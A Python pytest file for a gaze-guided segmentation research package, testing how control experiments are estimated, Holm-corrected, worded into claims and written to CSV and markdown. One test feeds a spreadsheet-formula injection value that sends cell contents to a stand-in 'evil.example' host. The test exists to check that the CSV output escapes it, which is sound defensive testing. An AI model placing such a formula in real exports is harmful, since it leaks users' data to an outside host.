"""The controls of a grid: their differences, the words on them, and that a claim says where there is none."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import pytest

from radgaze import experiments
from radgaze.evaluation.across_runs import Difference, GridEstimates, estimate_grid
from radgaze.evaluation.results import MACRO
from radgaze.evaluation.statistics.multiple_testing import holm
from radgaze.reporting.paper import Results
from radgaze.reporting.paper.claim_checks import claims
from radgaze.reporting.paper.controls import caveat, control_table, write_controls
from radgaze.reporting.paper.limitations import limits
from radgaze.reporting.paper.power import write_power
from radgaze.reporting.paper.table_set import tables
from tests.reporting.fakes import CLASSES
from tests.reporting.paper.grids import change, grid, made

GROUPS = (MACRO, *CLASSES, "nss")
NAMES = (
    *("baseline", "set3_guided", "set3_guided+shuffled", "set3_guided+lungs", "set1_guided"),
    *("set1_guided+shuffled", "no_decoder"),
)
UP, EVEN = change(0.05, 0.02, p=0.01), change(0.01, 0.05, p=0.8)


def estimated(results: Results, resamples: int = 200) -> GridEstimates:
    return estimate_grid(
        {name: results.runs[name] for name in results.experiments},
        results.classes,
        ("baseline", "set3_guided"),
        controls=results.controls,
        resamples=resamples,
        seed=0,
    )


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Results:
    """Three seeds; skill 2.4 with the gaze of each case in set 3, and 1.0 in set 1 and with every control."""
    failed = {("set1_guided+lungs", 0): "diverged"}
    return grid(tmp_path_factory.mktemp("grid"), NAMES, (0, 1, 2), failed=failed)


@pytest.fixture(scope="module")
def estimates(results: Results) -> GridEstimates:
    return estimated(results)


def test_names_with_controls_have_the_title_and_family_of_their_experiment() -> None:
    name = experiments.with_control("set3_guided", "shuffled_in_class")
    assert experiments.control_of(name) == ("set3_guided", "shuffled_in_class")
    assert experiments.control_of("set3_guided") == ("set3_guided", "")
    assert experiments.with_control("set3_guided", "none") == "set3_guided"
    described, plain = experiments.describe(name), experiments.describe("set3_guided")
    assert described.title == f"{plain.title}, control shuffled in class"
    assert (described.family, described.order) == (plain.family, plain.order)


def test_controls_stand_beside_their_experiment(results: Results, estimates: GridEstimates) -> None:
    listed = [name for name in results.listed if name in results.attempted]
    place = listed.index("set3_guided")
    assert listed[place : place + 3] == ["set3_guided", "set3_guided+shuffled", "set3_guided+lungs"]
    rows = [row.title for row in tables(results, estimates)[3].rows]
    place = rows.index("Set 3, guided")
    assert rows[place + 1 : place + 3] == ["Set 3, guided, control shuffled", "Set 3, guided, control lungs"]


def test_differences_are_paired_and_corrected_over_all_controls(
    results: Results, estimates: GridEstimates
) -> None:
    assert set(estimates.controls) == {"set3_guided+shuffled", "set3_guided+lungs", "set1_guided+shuffled"}
    raw = []
    for name, by_figure in estimates.controls.items():
        experiment = results.controls[name]
        gaps = [
            estimates.seeds[experiment][seed][MACRO] - estimates.seeds[name][seed][MACRO]  # type: ignore[operator]
            for seed in (0, 1, 2)
        ]
        assert by_figure[MACRO].value == pytest.approx(sum(gaps) / 3, abs=1e-6)
        assert by_figure[MACRO].comparisons == 3
        alone = Results(
            results.protocol,
            results.selection,
            {each: results.runs[each] for each in (experiment, name)},
            {},
        )
        raw.append(estimated(alone).controls[name][MACRO].p)
    assert [each[MACRO].p for each in estimates.controls.values()] == pytest.approx(holm(raw))


def test_controls_change_nothing_in_the_other_comparisons(results: Results, estimates: GridEstimates) -> None:
    plain = {name: runs for name, runs in results.runs.items() if "+" not in name}
    without = estimated(Results(results.protocol, results.selection, plain, {}))
    assert estimates.differences == without.differences
    assert estimates.best == without.best
    assert [claim.verdict for claim in claims(estimates)] == [claim.verdict for claim in claims(without)]
    assert not any("control" in sentence for sentence in limits(results, estimates))


def test_words_say_from_which_controls_the_gaze_is_distinguishable(
    results: Results, estimates: GridEstimates, tmp_path: Path
) -> None:
    table = control_table(results, estimates)
    found = {each.title: each for each in table.sentences}
    assert set(found) == {"Set 3, guided", "Set 1, guided", "Baseline U-Net"}
    third = found["Set 3, guided"]
    assert third.shown
    assert "distinguishable from the gaze on a case of another patient (shuffled)" in third.words
    assert "distinguishable from the shape of the lungs (lungs)" in third.words
    assert "not distinguishable" not in third.words
    assert not found["Set 1, guided"].shown
    assert "not distinguishable from the gaze on a case of another patient" in found["Set 1, guided"].words
    assert (
        "not compared with the shape of the lungs (lungs): failed: diverged" in found["Set 1, guided"].words
    )
    assert "no control was run" in found["Baseline U-Net"].words
    write_controls(table, tmp_path, "SELECTED")
    with (tmp_path / "controls.csv").open(encoding="utf-8") as file:
        assert file.readline() == "# SELECTED\n"
        rows = {(row["experiment"], row["control"], row["figure"]): row for row in csv.DictReader(file)}
    assert rows["set3_guided", "shuffled", MACRO]["verdict"] == "better"
    assert (
        float(rows["set3_guided", "lungs", MACRO]["value"])
        == estimates.controls["set3_guided+lungs"][MACRO].value
    )
    text = (tmp_path / "controls.md").read_text(encoding="utf-8")
    assert text.startswith("> **SELECTED**")
    assert len([line for line in text.splitlines() if line.startswith("| Set")]) == 4


def test_a_class_whose_name_is_a_formula_is_marked_in_the_csv_files(results: Results, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    differences = {"baseline": {"set3_guided": dict.fromkeys((MACRO, formula), UP)}}
    estimates = made({"baseline": 0.8, "set3_guided": 0.85}, differences, (formula, "Normal"))
    estimates = replace(estimates, controls={"set3_guided+shuffled": dict.fromkeys((MACRO, formula), UP)})
    write_power(estimates, tmp_path)
    write_controls(control_table(results, estimates), tmp_path)
    for name in ("power.csv", "controls.csv"):
        with (tmp_path / name).open(encoding="utf-8") as file:
            assert [row["figure"] for row in csv.DictReader(file)] == [MACRO, f"'{formula}"]


def test_a_claim_says_what_its_controls_show_or_that_there_is_none() -> None:
    def found(**controls: Difference) -> str:
        differences = {"baseline": {"set3_guided": dict.fromkeys(GROUPS, UP)}}
        estimates = made({"baseline": 0.8, "set3_guided": 0.85}, differences)
        by_figure = {f"set3_guided+{kind}": dict.fromkeys(GROUPS, each) for kind, each in controls.items()}
        raises = claims(replace(estimates, controls=by_figure))[0]
        assert raises.verdict == "holds"
        return raises.control

    assert found().startswith("No control of Set 3, guided: whether a gain is owed to the gaze on each case")
    assert found(shuffled=UP) == "Controls of gaze: Set 3, guided is better than with shuffled."
    both = found(shuffled=UP, lungs=EVEN)
    assert both.endswith("better than with shuffled, not shown to be better than with lungs.")


def test_a_control_counts_for_a_claim_only_if_it_is_worse_in_every_figure() -> None:
    estimates = replace(
        made({"set3_guided": 0.85}), controls={"set3_guided+mean": {"CHF": UP, "pneumonia": EVEN}}
    )
    assert "not shown to be better" in caveat(["set3_guided"], ("CHF", "pneumonia"), estimates)
    assert "is better than with mean" in caveat(["set3_guided"], ("CHF",), estimates)


def test_two_seeds_are_undecided(tmp_path: Path) -> None:
    results = grid(tmp_path, ("set3_guided", "set3_guided+mean"), (0, 1))
    (sentence,) = control_table(results, estimated(results, 50)).sentences
    assert "undecided against the mean gaze of the training cases" in sentence.words
